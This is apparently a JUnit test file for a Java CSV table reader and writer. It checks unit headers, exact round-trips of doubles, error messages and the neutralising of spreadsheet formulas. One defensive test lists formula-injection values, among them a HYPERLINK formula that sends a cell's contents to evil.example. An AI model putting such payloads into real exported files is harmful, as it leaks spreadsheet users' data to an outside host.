/*
 * Copyright 2026 The Ferrum developers
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */
package org.ferrum.io.table;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import org.ferrum.core.PhysicalUnit;
import org.ferrum.core.Table;
import org.ferrum.core.Table.Column;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class TableCsvTest {

    @TempDir
    Path dir;

    private static Table roiTable() {
        return Table.builder(
                        Column.text("region"),
                        Column.number("label", null),
                        Column.number("n", null),
                        Column.number("mean", PhysicalUnit.PPM),
                        Column.number("sd", PhysicalUnit.PPM),
                        Column.number("r2star", PhysicalUnit.PER_SECOND))
                .row("caudate", 1, 1200, 0.0625, 0.01, 35.5)
                .row("putamen, left", 2, 1, -0.125, Double.NaN, 0.1 + 0.2)
                .row("say \"pallidum\"\nline two", 3, 0, Double.NaN, Double.NaN, -0.0)
                .build();
    }

    @Test
    void writesHeaderWithUnitsQuotedTextAndPlainNumbers() {
        String csv = TableCsv.format(roiTable());
        assertEquals(
                """
                region,label,n,mean [ppm],sd [ppm],r2star [1/s]
                "caudate",1,1200,0.0625,0.01,35.5
                "putamen, left",2,1,-0.125,,0.30000000000000004
                "say ""pallidum""
                line two",3,0,,,-0.0
                """,
                csv);
    }

    @Test
    void roundTripsExactlyThroughAFile() throws IOException {
        Table t = roiTable();
        Path f = dir.resolve("sub/stats.csv");
        TableCsv.write(t, f);
        assertEquals(t, TableCsv.read(f));
        try (var files = Files.list(f.getParent())) {
            assertEquals(1, files.count(), "no temporary file is left behind");
        }
    }

    @Test
    void everyDoubleSurvivesBitForBit() throws TableFormatException {
        Random random = new Random(42);
        Table.Builder b = Table.builder(Column.number("x", PhysicalUnit.HERTZ));
        double[] special = {
            0,
            -0.0,
            1e15,
            -1e15,
            1e15 + 1,
            999_999_999_999_999.0,
            Double.MIN_VALUE,
            Double.MAX_VALUE,
            -Double.MAX_VALUE,
            Double.POSITIVE_INFINITY,
            Double.NEGATIVE_INFINITY,
            1.0 / 3,
            Math.PI,
            123456789.125
        };
        for (double v : special) {
            b.row(v);
        }
        for (int i = 0; i < 2000; i++) {
            b.row(Double.longBitsToDouble(random.nextLong()));
        }
        Table t = b.build();
        Table back = TableCsv.parse(TableCsv.format(t));
        for (int r = 0; r < t.rowCount(); r++) {
            double expected = t.number(r, "x");
            double got = back.number(r, "x");
            if (Double.isNaN(expected)) {
                assertTrue(Double.isNaN(got));
            } else {
                assertEquals(
                        Double.doubleToRawLongBits(expected),
                        Double.doubleToRawLongBits(got),
                        "row " + r + ": " + expected);
            }
        }
    }

    @Test
    void numbersIgnoreTheDefaultLocale() {
        Locale saved = Locale.getDefault();
        try {
            Locale.setDefault(Locale.GERMANY);
            Table t = Table.builder(Column.number("x", null)).row(2.5).build();
            assertEquals("x\n2.5\n", TableCsv.format(t));
        } finally {
            Locale.setDefault(saved);
        }
    }

    @Test
    void nanInAOneColumnTableIsAnEmptyLineThatSurvives() throws TableFormatException {
        Table t = Table.builder(Column.number("x", PhysicalUnit.SECOND))
                .row(Double.NaN)
                .row(1)
                .build();
        assertEquals("x [s]\n\n1\n", TableCsv.format(t));
        assertEquals(t, TableCsv.parse(TableCsv.format(t)));
    }

    @Test
    void dimensionlessColumnsComeBackWithoutUnit() throws TableFormatException {
        Table t = Table.builder(Column.number("ratio", PhysicalUnit.DIMENSIONLESS))
                .row(0.5)
                .build();
        Table back = TableCsv.parse(TableCsv.format(t));
        assertNull(back.columns().get(0).unit());
        assertEquals(0.5, back.number(0, "ratio"));
    }

    @Test
    void readsForeignCsvWithCrlfBomAndQuotedHeaders() throws TableFormatException {
        Table t = TableCsv.parse("\uFEFF\"name, full\",\"LIC [mg Fe/g dw]\",T\r\n\"a\",3.5,1.5\r\nb,,NaN\r\n");
        assertEquals("name, full", t.columns().get(0).name());
        assertEquals(Column.Kind.TEXT, t.columns().get(0).kind());
        assertEquals(PhysicalUnit.MG_FE_PER_G_DRY_WEIGHT, t.columns().get(1).unit());
        assertEquals("LIC", t.columns().get(1).name());
        assertEquals(Column.Kind.NUMBER, t.columns().get(2).kind());
        assertEquals(2, t.rowCount());
        assertEquals("b", t.text(1, "name, full"));
        assertTrue(Double.isNaN(t.number(1, "LIC")));
        assertTrue(Double.isNaN(t.number(1, "T")));
        assertEquals(3.5, t.number(0, "LIC"));
    }

    @Test
    void aQuotedNumberMakesATextColumn() throws TableFormatException {
        Table t = Table.builder(Column.text("id")).row("007").row("12").build();
        assertEquals("id\n\"007\"\n\"12\"\n", TableCsv.format(t));
        assertEquals(t, TableCsv.parse(TableCsv.format(t)));
    }

    @Test
    void trailingCommaIsAnEmptyLastCell() throws TableFormatException {
        Table t = TableCsv.parse("a,b\n1,");
        assertEquals(1, t.rowCount());
        assertTrue(Double.isNaN(t.number(0, "b")));
    }

    @Test
    void headerOnlyIsAnEmptyTable() throws TableFormatException {
        Table t = TableCsv.parse("label,mean [ppm]\n");
        assertEquals(0, t.rowCount());
        assertEquals(2, t.columns().size());
    }

    @Test
    void rowOfTheWrongWidthNamesTheLine() {
        TableFormatException e =
                assertThrows(TableFormatException.class, () -> TableCsv.parse("a,b\n1,2\n\"x\ny\",3,4\n"));
        assertEquals("line 3: 3 cells, but the header has 2 columns", e.getMessage());
    }

    @Test
    void unknownUnitNamesTheColumn() {
        TableFormatException e = assertThrows(TableFormatException.class, () -> TableCsv.parse("a,width [cm]\n1,2\n"));
        assertTrue(e.getMessage().startsWith("column 2 'width [cm]': unknown unit 'cm'"), e.getMessage());
    }

    @Test
    void brokenQuotingIsReported() {
        assertEquals(
                "line 2: a quoted cell is never closed",
                assertThrows(TableFormatException.class, () -> TableCsv.parse("a\n\"open\n"))
                        .getMessage());
        assertTrue(assertThrows(TableFormatException.class, () -> TableCsv.parse("a\n\"x\"y\n"))
                .getMessage()
                .startsWith("line 2: text after the closing quote"));
        assertTrue(assertThrows(TableFormatException.class, () -> TableCsv.parse("a\nx\"y\n"))
                .getMessage()
                .startsWith("line 2: a quote inside an unquoted cell"));
    }

    @Test
    void emptyFileIsReportedWithItsName() throws IOException {
        Path f = dir.resolve("empty.csv");
        Files.writeString(f, "", StandardCharsets.UTF_8);
        TableFormatException e = assertThrows(TableFormatException.class, () -> TableCsv.read(f));
        assertEquals("empty.csv: empty: a table needs a header line", e.getMessage());
    }

    @Test
    void overwritesAnExistingFile() throws IOException {
        Path f = dir.resolve("t.csv");
        Files.writeString(f, "old content that is longer than the new one\n");
        TableCsv.write(Table.builder(Column.number("x", null)).row(1).build(), f);
        assertEquals("x\n1\n", Files.readString(f));
        assertFalse(Files.readString(f).contains("old"));
    }

    @Test
    void spreadsheetFormulasAreNeutralisedAndReadBackExactly() throws TableFormatException {
        String[] hostile = {
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "'=already guarded",
            "'plain quote",
            "''",
            "caudate"
        };
        Table.Builder b = Table.builder(Column.text("=region"), Column.number("mean", PhysicalUnit.PPM));
        for (String h : hostile) {
            b.row(h, -1.5);
        }
        Table t = b.build();
        String csv = TableCsv.format(t);
        for (String line : csv.split("\n")) {
            assertFalse(
                    line.matches("^\"?[=+@-].*") || line.matches(".*,\"?[=+@].*"),
                    "a cell starts like a formula: " + line);
        }
        assertTrue(
                csv.startsWith(
                        "\"'=region\",mean [ppm]\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",-1.5\n"),
                csv);
        assertTrue(csv.contains("\n\"''=already guarded\",") && csv.contains("\n\"'plain quote\","), csv);
        assertEquals(t, TableCsv.parse(csv), "Ferrum reads back the original texts, and -1.5 stays a number");
    }

    @Test
    void recordsKeepTheirLinesAndTextCells() throws TableFormatException {
        // a quoted cell spanning two lines: the next record starts on line 4; a blank line is a record of one empty
        // cell
        List<TableCsv.Record> r = TableCsv.records("\uFEFFa,b\r\n1,\"x\ny\"\n\n007,\"'=z\"\n");
        assertEquals(4, r.size());
        assertEquals(new TableCsv.Record(1, List.of("a", "b")), r.get(0));
        assertEquals(new TableCsv.Record(2, List.of("1", "x\ny")), r.get(1));
        assertTrue(r.get(2).blank());
        assertEquals(new TableCsv.Record(5, List.of("007", "=z")), r.get(3));
    }
}
